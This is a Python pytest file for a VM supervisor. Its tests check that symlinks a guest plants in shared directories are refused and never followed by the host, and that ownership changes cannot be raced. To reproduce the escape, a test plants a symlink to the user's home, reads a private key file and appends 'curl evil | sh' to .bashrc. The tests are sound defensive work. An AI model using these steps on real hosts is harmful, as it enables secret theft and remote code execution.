"""D1/D3 of the security issue: no link a guest can plant in a share is ever followed by the host.

The reproducer as found: the guest replaces /home/agent/cri-storage (its own agent home, shared) with a
symlink to the user's home; on the next start the host used to resolve it and virtiofsd exported the
user's home read-write to the guest.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from supervisor import guest, sharedirs
from supervisor.errors import SupervisorError
from tests.support import leftovers, run_supervisor, user_ids, wait_until_gone


def _home_with_secrets(root: Path, owner: tuple[int, int]) -> Path:
    home = root / "userhome"
    home.mkdir()
    (home / "secret").write_text("the user's private key\n")
    (home / "secret").chmod(0o600)
    (home / ".bashrc").write_text("# the user's shell\n")
    for path in (home, home / "secret", home / ".bashrc"):
        os.chown(path, *owner)
    return home


@pytest.mark.vm
@pytest.mark.parametrize("as_root", [False, True], ids=["unprivileged", "root"])
def test_a_symlink_the_guest_plants_as_cri_storage_is_refused_on_the_next_start(
    guest_assets: guest.GuestAssets, test_user: str, shared_tmp: Path, as_root: bool
) -> None:
    owner = user_ids(test_user)
    user = None if as_root else test_user
    os.chown(shared_tmp, *owner)
    work, agent_home = shared_tmp / "work", shared_tmp / "home"
    work.mkdir()
    os.chown(work, *owner)
    userhome = _home_with_secrets(shared_tmp, owner)
    runtime = shared_tmp / "rt"
    args = ["run", "--name", "escape", "--work-dir", str(work), "--agent-home", str(agent_home),
            "--runtime-dir", str(runtime)]  # fmt: skip

    plant = f"cd /home/agent && rm -rf cri-storage && ln -s {userhome} cri-storage && ls -l cri-storage"
    first = run_supervisor([*args, "--", "sh", "-c", plant], user=user, cwd=shared_tmp)
    assert first.returncode == 0, first.stderr
    assert (agent_home / "cri-storage").is_symlink()  # the guest did plant it, as the user

    steal = "cat /var/lib/containers/secret; echo 'curl evil | sh' >> /var/lib/containers/.bashrc"
    second = run_supervisor([*args, "--", "sh", "-c", steal], user=user, cwd=shared_tmp)
    assert second.returncode == 66, second.stderr
    assert "share 'cri-storage'" in second.stderr and "symbolic link" in second.stderr
    assert "private key" not in second.stdout
    assert (userhome / ".bashrc").read_text() == "# the user's shell\n"
    assert wait_until_gone("escape") == []
    assert leftovers(runtime, timeout=10) == []


def test_a_link_inside_another_share_is_not_followed_on_the_way_to_a_source(tmp_path: Path) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    (outside / "sub").mkdir(parents=True)
    work.mkdir()
    (work / "planted").symlink_to(outside)
    with pytest.raises(SupervisorError) as caught:
        sharedirs.physical_source("cache", work / "planted" / "sub", [work])
    assert f"goes through {work / 'planted'}, a symbolic link inside the share directory {work}" in str(
        caught.value
    )


def test_an_agent_home_the_guest_replaced_by_a_link_in_the_work_dir_is_refused(tmp_path: Path) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    (work / ".agent").symlink_to(outside)  # AGENT_HOME=./.agent, replaced by the guest through /work
    result = run_supervisor(
        ["run", "--work-dir", str(work), "--agent-home", str(work / ".agent"),
         "--runtime-dir", str(tmp_path / "rt"), "--", "true"]
    )  # fmt: skip
    assert result.returncode == 66, result.stderr
    assert "share 'agent-home'" in result.stderr and "symbolic link" in result.stderr
    assert list(outside.iterdir()) == []  # no .microvm-env written through the link either


def test_links_of_the_users_own_outside_every_share_are_followed(tmp_path: Path) -> None:
    real = tmp_path / "data" / "src"
    real.mkdir(parents=True)
    (tmp_path / "link").symlink_to(tmp_path / "data")
    assert sharedirs.physical_source("work", tmp_path / "link" / "src", []) == real


def test_a_source_that_is_itself_a_link_is_refused_with_its_target(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    with pytest.raises(SupervisorError) as caught:
        sharedirs.physical_source("work", tmp_path / "link", [])
    assert f"give the directory itself ({tmp_path / 'real'})" in str(caught.value)
    assert caught.value.exit_code == 66


def test_a_link_swapped_in_after_planning_makes_the_open_fail(tmp_path: Path) -> None:
    source = sharedirs.physical_source("agent-home", tmp_path / "home", [])
    source.mkdir()
    source.rename(tmp_path / "moved")
    source.symlink_to("/etc")
    with pytest.raises(SupervisorError) as caught:
        sharedirs.open_source("agent-home", source, create=True, owner=None, expect_uid=None)
    assert "became a symbolic link (to /etc)" in str(caught.value)


def test_mkdir_then_chown_race_cannot_give_away_a_file_of_roots(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """D3: between creating a share dir and giving it to the user, the guest swaps in a link to a
    file of root's; the owner change must go to the directory made, never through the link."""
    if os.geteuid() != 0:
        pytest.skip("the owner change only happens as root")
    victim = tmp_path / "root-only"
    victim.write_text("root's\n")
    victim.chmod(0o600)
    source = tmp_path / "home" / "cri-storage"
    (tmp_path / "home").mkdir()
    real_mkdir = os.mkdir

    def mkdir_then_swap(path: str, mode: int = 0o777, *, dir_fd: int | None = None) -> None:
        real_mkdir(path, mode, dir_fd=dir_fd)
        if path == "cri-storage":  # the guest wins the race
            source.rename(tmp_path / "made")
            source.symlink_to(victim)

    monkeypatch.setattr(os, "mkdir", mkdir_then_swap)
    with pytest.raises(SupervisorError) as caught:
        sharedirs.open_source("cri-storage", source, create=True, owner=(4242, 4242), expect_uid=None)
    assert "became a symbolic link" in str(caught.value)
    assert victim.stat().st_uid == 0


def test_a_share_inside_another_that_the_guest_could_not_have_made_is_refused(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs a directory of another user")
    inner = tmp_path / "work" / "inner"
    inner.mkdir(parents=True)
    os.chown(inner, 4242, 4242)
    with pytest.raises(SupervisorError) as caught:
        sharedirs.open_source("inner", inner, create=False, owner=None, expect_uid=1000)
    assert "belongs to uid 4242, not to uid 1000" in str(caught.value)
